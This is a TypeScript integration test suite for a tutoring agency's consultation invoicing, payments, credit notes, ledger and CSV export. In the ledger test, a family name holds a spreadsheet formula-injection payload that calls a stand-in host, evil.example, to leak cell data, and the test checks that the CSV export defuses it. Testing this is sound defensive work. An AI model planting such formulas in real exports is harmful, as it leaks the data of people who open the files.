import { type Delivered, startLoopbackSmtp } from '@agency/scripts/testing/loopback-smtp';
import { pdfText } from '@agency/scripts/testing/pdf-text';
import { startTestProduct, TEST_ADMIN, type TestProduct } from '@agency/scripts/testing/test-product';
import { testRequests } from '@agency/scripts/testing/test-requests';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

type Json = Record<string, unknown>;
type Row = {
  id: string;
  date: string;
  name: string;
  child: string;
  amount: number;
  assessment: boolean;
  invoiceId: string;
  invoiceReference: string;
  paid: number;
  owed: number;
  cancelled: boolean;
  creditNoteId: string | null;
  creditNoteReference: string | null;
  replaced: { invoiceId: string; reference: string; creditNoteId: string | null; creditNoteReference: string | null }[];
};

const contact = (firstName: string, lastName: string) => ({
  firstName,
  lastName,
  address: ['5 Broad Street', '', 'Oxford', ''],
  postcode: 'OX1 3AZ',
  email: `${firstName}.${lastName}@example.com`.toLowerCase(),
  phone: [{ type: 'Mobile', number: '07700 900123' }],
});

/** The PDF attached to a raw message (base64 in its own MIME part). */
function attachedPdf(raw: string): Buffer {
  const part = /Content-Type: application\/pdf[\s\S]*?\r?\n\r?\n([A-Za-z0-9+/=\r\n]+)/.exec(raw);
  if (!part) throw new Error('no PDF attached');
  return Buffer.from(part[1]!.replace(/\s/g, ''), 'base64');
}

describe('consultations and family invoices (real PostgreSQL, real SMTP on loopback)', () => {
  let product: TestProduct;
  let smtp: Awaited<ReturnType<typeof startLoopbackSmtp>>;
  let db: pg.Pool;
  let admin: string;
  let tutorToken: string;
  let partnerToken: string;
  let inbox: Delivered[];
  let family: { clientId: string; childId: string };
  let otherFamily: { clientId: string; childId: string };

  const { post, ok } = testRequests(
    () => product,
    () => admin,
  );
  const get = (url: string, token = admin) =>
    fetch(`${product.url}${url}`, { headers: { authorization: `Bearer ${token}` } });
  const list = async (): Promise<Row[]> => (await (await get('/api/consultations')).json()).consultations;
  const rowOf = async (id: string) => (await list()).find((row) => row.id === id)!;
  const countEvents = async () => Number((await db.query('select count(*) from es.events')).rows[0].count);
  const newFamily = async (surname: string) => {
    const { client } = await ok('/api/clients/contact', contact('Parent', surname));
    const { child } = await ok(`/api/clients/child/${client.id}`, {
      firstName: 'Kit',
      lastName: surname,
      dob: '2014-02-03',
    });
    return { clientId: client.id as string, childId: child.id as string };
  };
  const record = (over: Json = {}, token = admin) =>
    post('/api/consultations', { client: family.clientId, child: family.childId, date: '2026-03-05', ...over }, token);
  const pdfOf = async (id: string) => {
    const response = await get(`/api/family-invoices/doc/${id}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    return pdfText(new Uint8Array(await response.arrayBuffer()));
  };

  beforeAll(async () => {
    smtp = await startLoopbackSmtp();
    inbox = smtp.inbox;
    product = await startTestProduct({ smtpUrl: smtp.url });
    db = new pg.Pool({ connectionString: product.databaseUrl });
    admin = await product.login(TEST_ADMIN.username, TEST_ADMIN.password);
    tutorToken = await product.command.signSession({ id: 'u-tutor', username: 'tt', role: 'tutor', tutorId: 't-1' });
    partnerToken = await product.command.signSession({
      id: 'u-partner',
      username: 'pp',
      role: 'partner',
      tutorId: 't-2',
    });
    family = await newFamily('Archer');
    otherFamily = await newFamily('Baker');
  });
  afterAll(async () => {
    await db?.end();
    await product?.dispose();
    await smtp?.close();
  });

  it('records a consultation with an assessment at the default £175, issues its invoice and e-mails the PDF', async () => {
    const answer = await ok('/api/consultations', {
      client: family.clientId,
      child: family.childId,
      date: '2026-03-05',
      assessment: true,
      assessmentDetails: { subjects: ['Maths', 'English'], tutorId: '' },
    });
    const saved = answer.consultation;
    expect(saved.id).toEqual(expect.any(String));
    expect(saved).toMatchObject({ amount: 175, assessment: true, client: family.clientId, child: family.childId });
    expect(saved.invoiceReference).toMatch(/^OTA\d{5}$/);
    expect(answer.mailed).toBe(true);

    const row = await rowOf(saved.id);
    expect(row).toMatchObject({
      date: '2026-03-05',
      name: 'Parent Archer',
      child: 'Kit Archer',
      amount: 175,
      assessment: true,
      invoiceReference: saved.invoiceReference,
      paid: 0,
      cancelled: false,
    });

    const text = await pdfOf(row.invoiceId);
    expect(text).toContain('INVOICE');
    expect(text).toContain(saved.invoiceReference);
    expect(text).toContain('Oxford Tutoring Agency Ltd');
    expect(text).toContain('Parent Archer');
    expect(text).toContain('Consultation with assessment on 05 Mar 2026');
    expect(text).toContain('£175.00');
    expect(text).toContain('Sort code 40-12-76');

    const mail = inbox.find((message) => message.raw.includes(saved.invoiceReference));
    expect(mail?.to).toEqual(['parent.archer@example.com']);
    const attached = pdfText(attachedPdf(mail!.raw));
    expect(attached).toContain(saved.invoiceReference);
    expect(attached).toContain('£175.00');
  });

  it('keeps a typed amount and lists consultations newest first, filtered by year and month', async () => {
    const { consultation } = await ok('/api/consultations', {
      client: family.clientId,
      child: family.childId,
      date: '2026-04-10',
      amount: '£120.50',
      assessment: false,
    });
    expect(consultation.amount).toBe(120.5);
    const all = await list();
    expect(all[0]?.id).toBe(consultation.id);
    const april = (await (await get('/api/consultations?year=2026&month=4')).json()).consultations as Row[];
    expect(april.map((row) => row.id)).toEqual([consultation.id]);

    // Searched by the name of the family's contact or of the child, each word the start of one
    // person's first or last name; sorted by a column either way.
    const ids = async (query: string) =>
      ((await (await get(`/api/consultations?${query}`)).json()).consultations as Row[]).map((row) => row.id);
    const archers = all.filter((row) => row.name === 'Parent Archer').map((row) => row.id);
    expect(archers).toContain(consultation.id);
    expect(await ids('q=parent%20arch')).toEqual(archers);
    expect(await ids('q=KIT')).toEqual(archers);
    expect(await ids('q=baker')).toEqual([]);
    expect(await ids('q=parent%20kit')).toEqual([]);
    expect(await ids('q=arch&year=2026&month=4')).toEqual([consultation.id]);
    const byAmount = async (order: string) =>
      ((await (await get(`/api/consultations?q=archer&sort=amount&order=${order}`)).json()).consultations as Row[]).map(
        (row) => row.amount,
      );
    expect(await byAmount('asc')).toEqual([...(await byAmount('asc'))].sort((a, b) => a - b));
    expect(await byAmount('desc')).toEqual((await byAmount('asc')).reverse());
    expect((await byAmount('asc'))[0]).toBe(120.5);
    expect((await get('/api/consultations?sort=invoice')).status).toBe(400);
  });

  it('refuses a child of another family, and bad input, writing nothing', async () => {
    const before = await countEvents();
    const wrongChild = await record({ child: otherFamily.childId });
    expect(wrongChild.statusCode).toBe(400);
    expect(wrongChild.json().error.fields.child).toBeDefined();
    const bad = await post('/api/consultations', { client: '', child: '', date: '', amount: '100001' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.fields).toMatchObject({
      client: 'Client is required',
      child: 'Child is required',
      date: 'Date is required',
    });
    expect(bad.json().error.fields.amount).toMatch(/cannot be more than £100,000/);
    const subjects = await record({ assessment: true, assessmentDetails: { subjects: ['Astrology'] } });
    expect(subjects.statusCode).toBe(400);
    const assessor = await record({ assessment: true, assessmentDetails: { subjects: ['Maths'], tutorId: 'nobody' } });
    expect(assessor.statusCode).toBe(400);
    expect(assessor.json().error.fields['assessmentDetails.tutorId']).toBe('There is no such tutor');
    expect(await countEvents()).toBe(before);
  });

  it('is for admins only: tutors and partners get 403 and nothing is written', async () => {
    const before = await countEvents();
    for (const token of [tutorToken, partnerToken]) {
      expect((await record({}, token)).statusCode).toBe(403);
      expect((await get('/api/consultations', token)).status).toBe(403);
      expect(
        (await post('/api/family-invoices/payment', { invoiceId: 'x', date: '2026-03-01', amount: 1 }, token))
          .statusCode,
      ).toBe(403);
      expect((await post('/api/agency', {}, token)).statusCode).toBe(403);
    }
    expect(await countEvents()).toBe(before);
  });

  it('never repeats a reference, even for saves at the same moment', async () => {
    const answers = await Promise.all(
      Array.from({ length: 8 }, (_, i) =>
        ok('/api/consultations', {
          client: family.clientId,
          child: family.childId,
          date: `2026-02-${String(i + 1).padStart(2, '0')}`,
        }),
      ),
    );
    const references = (await db.query('select reference from read.family_invoices')).rows.map((r) => r.reference);
    expect(new Set(references).size).toBe(references.length);
    for (const answer of answers) expect(references).toContain(answer.consultation.invoiceReference);
  });

  it('records part and full payments, refusing more than is owed; Paid shows once anything is paid', async () => {
    const { consultation } = await ok('/api/consultations', {
      client: family.clientId,
      child: family.childId,
      date: '2026-01-15',
      amount: 100,
    });
    await ok('/api/family-invoices/payment', { invoiceId: consultation.invoiceId, date: '2026-01-20', amount: 40 });
    expect((await rowOf(consultation.id)).paid).toBe(40);
    const over = await post('/api/family-invoices/payment', {
      invoiceId: consultation.invoiceId,
      date: '2026-01-21',
      amount: 60.01,
    });
    expect(over.statusCode).toBe(409);
    const paid = await ok('/api/family-invoices/payment', {
      invoiceId: consultation.invoiceId,
      date: '2026-01-21',
      amount: '60',
    });
    expect(paid.invoice).toMatchObject({ paid: 100, outstanding: 0 });
    const unknown = await post('/api/family-invoices/payment', { invoiceId: 'nope', date: '2026-01-21', amount: 1 });
    expect(unknown.statusCode).toBe(404);
  });

  it('credits the invoice of a consultation changed after issue and issues a new one; a cancellation credits it too', async () => {
    const { consultation } = await ok('/api/consultations', {
      client: family.clientId,
      child: family.childId,
      date: '2026-03-20',
    });
    const asIssued = await pdfOf(consultation.invoiceId);
    const changed = await ok('/api/consultations', {
      id: consultation.id,
      client: family.clientId,
      child: family.childId,
      date: '2026-03-20',
      amount: 200,
    });
    expect(changed.consultation.invoiceReference).not.toBe(consultation.invoiceReference);
    const row = await rowOf(consultation.id);
    expect(row).toMatchObject({ amount: 200, invoiceReference: changed.consultation.invoiceReference, owed: 200 });
    // The credit note cancels the invoice the change replaced, not the new one: the row names it
    // beside the replaced invoice only.
    expect(row.creditNoteReference).toBeNull();
    expect(row.replaced).toEqual([
      {
        invoiceId: consultation.invoiceId,
        reference: consultation.invoiceReference,
        creditNoteId: expect.any(String),
        creditNoteReference: expect.stringMatching(/^CN-OTA\d{5}$/),
      },
    ]);
    const [replaced] = row.replaced;
    const note = await pdfOf(replaced!.creditNoteId!);
    expect(note).toContain('CREDIT NOTE');
    expect(note).toContain(replaced!.creditNoteReference!);
    expect(note).toContain(consultation.invoiceReference);
    expect(note).toContain('£175.00');
    // The invoice stays as it was issued: its credit note is a document of its own (docs/documents.md).
    expect(await pdfOf(consultation.invoiceId)).toBe(asIssued);
    expect(inbox.some((message) => message.raw.includes(replaced!.creditNoteReference!))).toBe(true);

    await ok('/api/consultations/cancel', { id: consultation.id });
    const cancelled = await rowOf(consultation.id);
    expect(cancelled).toMatchObject({ cancelled: true, owed: 0, replaced: row.replaced });
    // Now its own invoice is credited, by a credit note of its own.
    expect(cancelled.creditNoteReference).toMatch(/^CN-OTA\d{5}$/);
    expect(cancelled.creditNoteReference).not.toBe(replaced!.creditNoteReference);
    expect(await pdfOf(cancelled.creditNoteId!)).toContain(changed.consultation.invoiceReference);
    const references = (
      await db.query('select reference, credit_note_reference from read.family_invoices')
    ).rows.flatMap((r) => [r.reference, r.credit_note_reference].filter(Boolean));
    expect(new Set(references).size).toBe(references.length);
  });

  it('lists a family’s invoices, credit notes and payments in the ledger with what is owed, filtered, totalled and as CSV', async () => {
    type Entry = {
      kind: string;
      id: string;
      date: string;
      reference: string;
      invoiceId: string;
      clientId: string | null;
      family: string;
      billedFor: string;
      amount: number;
      state: string;
      owed: number | null;
    };
    // A family whose name a spreadsheet would run as a formula.
    const formula = '=HYPERLINK("http://evil.example/?"&A1)';
    const { client } = await ok('/api/clients/contact', { ...contact(formula, 'Ledger'), email: 'ledger@example.com' });
    const { child } = await ok(`/api/clients/child/${client.id}`, {
      firstName: 'Lou',
      lastName: 'Ledger',
      dob: '2014-02-03',
    });
    const consult = async (amount: number) =>
      (await ok('/api/consultations', { client: client.id, child: child.id, date: '2026-05-04', amount })).consultation;
    const ledger = async (query = '') => {
      const response = await get(`/api/family-invoices?client=${client.id}${query}`);
      expect(response.status).toBe(200);
      return (await response.json()) as { entries: Entry[]; totals: Json; total: number; nextCursor: string | null };
    };

    // Part-paid, to the penny.
    const partPaid = await consult(100);
    const invoiceDate = (await ledger()).entries.find((entry) => entry.id === partPaid.invoiceId)!.date;
    // Paid in the month before the invoices' (all dated today).
    const [year, month] = invoiceDate.split('-').map(Number) as [number, number];
    const paidIn = month === 1 ? { year: year - 1, month: 12 } : { year, month: month - 1 };
    const paymentDate = `${paidIn.year}-${String(paidIn.month).padStart(2, '0')}-15`;
    await ok('/api/family-invoices/payment', { invoiceId: partPaid.invoiceId, date: paymentDate, amount: '40.01' });
    // Changed after issue: its first invoice is credited, a second one bills it.
    const superseded = await consult(175);
    const superseding = (
      await ok('/api/consultations', {
        id: superseded.id,
        client: client.id,
        child: child.id,
        date: '2026-05-04',
        amount: '200.50',
      })
    ).consultation;
    // A workshop booked with the family's address is the family's invoice too.
    const { event } = await ok('/api/events', {
      description: 'Ledger day',
      dateTime: '2099-07-20T10:00',
      durationMinutes: 60,
      price: 20,
      capacity: 10,
      location: 'Hall',
    });
    const booked = await ok('/api/events/register', {
      eventId: event.id,
      contact: { ...contact('Any', 'Booker'), email: 'ledger@example.com', phone: '07700 900000' },
      children: [{ firstName: 'Lou', lastName: 'Ledger', school: 'St Mary', schoolYear: '5', allergies: 'None' }],
    });
    const workshop = (
      await ok('/api/events/confirmInvoice', { registrationIds: [booked.registration.id], discountAmount: 0 })
    ).invoice as { id: string; reference: string };

    const family = `${formula} Ledger`;
    // Four invoices, one credit note, one payment.
    await expect.poll(async () => (await ledger()).total, { timeout: 60_000 }).toBe(6);
    const { entries, totals, total } = await ledger();
    const pick = (kind: string, invoiceId: string) =>
      entries.find((entry) => entry.kind === kind && entry.invoiceId === invoiceId);
    expect(pick('invoice', partPaid.invoiceId)).toMatchObject({
      reference: partPaid.invoiceReference,
      clientId: client.id,
      family,
      billedFor: 'consultation',
      amount: 100,
      state: 'part-paid',
      owed: 59.99,
    });
    expect(pick('payment', partPaid.invoiceId)).toMatchObject({
      date: paymentDate,
      reference: partPaid.invoiceReference,
      amount: 40.01,
      state: 'part-paid',
      owed: null,
    });
    expect(pick('invoice', superseded.invoiceId)).toMatchObject({ amount: 175, state: 'credited', owed: 0 });
    expect(pick('credit note', superseded.invoiceId)).toMatchObject({
      reference: expect.stringMatching(/^CN-/),
      amount: 175,
      state: 'credited',
    });
    expect(pick('invoice', superseding.invoiceId)).toMatchObject({ amount: 200.5, state: 'unpaid', owed: 200.5 });
    expect(pick('credit note', superseding.invoiceId)).toBeUndefined();
    expect(pick('invoice', workshop.id)).toMatchObject({
      reference: workshop.reference,
      billedFor: 'workshops',
      amount: 20,
      state: 'unpaid',
      owed: 20,
    });
    expect(totals).toEqual({ invoiced: 495.5, credited: 175, paid: 40.01, owed: 280.49 });
    // Newest first: the payment, dated a month before the rest, is last.
    expect(entries.at(-1)?.kind).toBe('payment');
    expect(total).toBe(entries.length);

    // Filtered by state (every entry of the invoices in it), by month (the entries dated in it).
    const ids = (answer: { entries: Entry[] }) => answer.entries.map((entry) => `${entry.kind} ${entry.invoiceId}`);
    expect(ids(await ledger('&state=part-paid'))).toEqual([
      `invoice ${partPaid.invoiceId}`,
      `payment ${partPaid.invoiceId}`,
    ]);
    const credited = await ledger('&state=credited');
    expect(ids(credited).sort()).toEqual([`credit note ${superseded.invoiceId}`, `invoice ${superseded.invoiceId}`]);
    expect(credited.totals).toEqual({ invoiced: 175, credited: 175, paid: 0, owed: 0 });
    expect((await ledger('&state=unpaid')).totals).toMatchObject({ invoiced: 220.5, owed: 220.5 });
    expect((await ledger('&state=paid')).entries).toEqual([]);
    const paymentMonth = await ledger(`&year=${paidIn.year}&month=${paidIn.month}`);
    expect(ids(paymentMonth)).toEqual([`payment ${partPaid.invoiceId}`]);
    expect(paymentMonth.totals).toEqual({ invoiced: 0, credited: 0, paid: 40.01, owed: 0 });
    expect((await ledger(`&year=${year}&month=${month}`)).total).toBe(5);
    // Paged: two at a time, every entry once, in the same order.
    const paged: string[] = [];
    let cursor: string | null = null;
    do {
      const page: { entries: Entry[]; nextCursor: string | null } = await ledger(
        `&limit=2${cursor ? `&cursor=${cursor}` : ''}`,
      );
      paged.push(...ids(page));
      cursor = page.nextCursor;
    } while (cursor);
    expect(paged).toEqual(ids({ entries }));
    // Another family's entries are not this one's; bad filters are refused.
    expect((await ledger()).entries.every((entry) => entry.clientId === client.id)).toBe(true);
    expect((await get('/api/family-invoices?state=settled')).status).toBe(400);
    expect((await get('/api/family-invoices?month=3')).status).toBe(400);
    expect((await get('/api/family-invoices?cursor=nonsense')).status).toBe(400);

    // The CSV: the filtered entries, the formula defused by the one CSV writer, amounts as values.
    const csv = await get(`/api/family-invoices?client=${client.id}&state=part-paid&format=csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const lines = (await csv.text()).trimEnd().split('\r\n');
    expect(lines[0]).toBe(
      '"Date","Kind","Reference","Invoice","Family","For","State","Invoiced","Credited","Paid","Owed"',
    );
    expect(lines.slice(1)).toEqual([
      `"${invoiceDate}","invoice","${partPaid.invoiceReference}","${partPaid.invoiceReference}","'=HYPERLINK(""http://evil.example/?""&A1) Ledger","consultation","part-paid","100","","","59.99"`,
      `"${paymentDate}","payment","${partPaid.invoiceReference}","${partPaid.invoiceReference}","'=HYPERLINK(""http://evil.example/?""&A1) Ledger","consultation","part-paid","","","40.01",""`,
    ]);

    // The family's page: what it owes in all, its invoices, its child's lessons and tutor.
    const { tutor } = await ok('/api/tutors/contact', {
      contact: contact('Tam', 'Teacher'),
      tutor: { username: 'tam.teacher', invoicePrefix: 'TAM', startDate: '2025-01-01' },
    });
    const { engagement } = await ok('/api/tutors/engagement', {
      tutorId: tutor.id,
      studentId: child.id,
      rate: 40,
      commissionPct: 25,
      partnerPct: 10,
      startDate: '2025-01-01',
      subjects: ['Maths'],
    });
    await ok('/api/lessons/lesson?from=2025-03-03&to=2025-03-09&month=2025-03', {
      tutorId: tutor.id,
      lesson: { engagementId: engagement.id, date: '2025-03-04', duration: 1.5 },
    });
    const overviewResponse = await get(`/api/clients/${client.id}/overview`);
    const overviewText = await overviewResponse.text();
    const overview = JSON.parse(overviewText);
    expect(overview).toMatchObject({
      owed: 280.49,
      invoiceCount: 4,
      lessons: [{ date: '2025-03-04', childId: child.id, child: 'Lou Ledger', tutor: 'Tam Teacher', duration: 1.5 }],
      tutors: [
        { id: tutor.id, name: 'Tam Teacher', children: ['Lou Ledger'], subjects: ['Maths'], since: '2025-01-01' },
      ],
    });
    expect(overview.tutors[0].current).toBe(true);
    // Never what the lesson earns: no rate, price, commission or share under any name.
    expect(overviewText).not.toMatch(/rate|commission|partner|earning|"amount"/i);
    expect(
      Object.fromEntries(
        overview.invoices.map((invoice: Json) => [invoice.id, [invoice.state, invoice.paid, invoice.owed]]),
      ),
    ).toEqual({
      [partPaid.invoiceId]: ['part-paid', 40.01, 59.99],
      [superseded.invoiceId]: ['credited', 0, 0],
      [superseding.invoiceId]: ['unpaid', 0, 200.5],
      [workshop.id]: ['unpaid', 0, 20],
    });
    expect(overview.invoices.find((invoice: Json) => invoice.id === superseded.invoiceId).creditNote).toMatchObject({
      reference: pick('credit note', superseded.invoiceId)!.reference,
    });

    // The office reads it (a partner too, and the documents it links to); a tutor never.
    expect((await get(`/api/family-invoices?client=${client.id}`, partnerToken)).status).toBe(200);
    expect((await get(`/api/clients/${client.id}/overview`, partnerToken)).status).toBe(200);
    expect((await get(`/api/family-invoices/doc/${workshop.id}`, partnerToken)).status).toBe(200);
    expect((await get(`/api/family-invoices?client=${client.id}`, tutorToken)).status).toBe(403);
    expect((await get(`/api/clients/${client.id}/overview`, tutorToken)).status).toBe(403);
    expect((await get(`/api/family-invoices/doc/${workshop.id}`, tutorToken)).status).toBe(403);
  });

  it('lets an admin edit the agency’s details, which feed the next invoice, both PDFs and the notice', async () => {
    const agency = await (await get('/api/agency')).json();
    expect(agency).toMatchObject({
      name: 'Oxford Tutoring Agency Ltd',
      defaultConsultationAmount: 175,
      showBankNotice: true,
    });
    const bad = await post('/api/agency', {
      ...agency,
      sortCode: '12',
      familyInvoicePrefix: 'A B',
      paymentTermsDays: 999,
    });
    expect(bad.statusCode).toBe(400);
    expect(Object.keys(bad.json().error.fields)).toEqual(
      expect.arrayContaining(['sortCode', 'familyInvoicePrefix', 'paymentTermsDays']),
    );
    await ok('/api/agency', {
      ...agency,
      name: 'Cherwell Tutors Ltd',
      bankName: 'Isis Bank',
      familyInvoicePrefix: 'CHW',
      defaultConsultationAmount: 150,
    });
    expect(await (await get('/api/agency', tutorToken)).json()).toMatchObject({ bankName: 'Isis Bank' });
    const { consultation } = await ok('/api/consultations', {
      client: family.clientId,
      child: family.childId,
      date: '2026-03-25',
    });
    expect(consultation).toMatchObject({ amount: 150 });
    expect(consultation.invoiceReference).toMatch(/^CHW\d{5}$/);
    const text = await pdfOf(consultation.invoiceId);
    expect(text).toContain('Cherwell Tutors Ltd');
    expect(text).toContain('Isis Bank');
  });
});
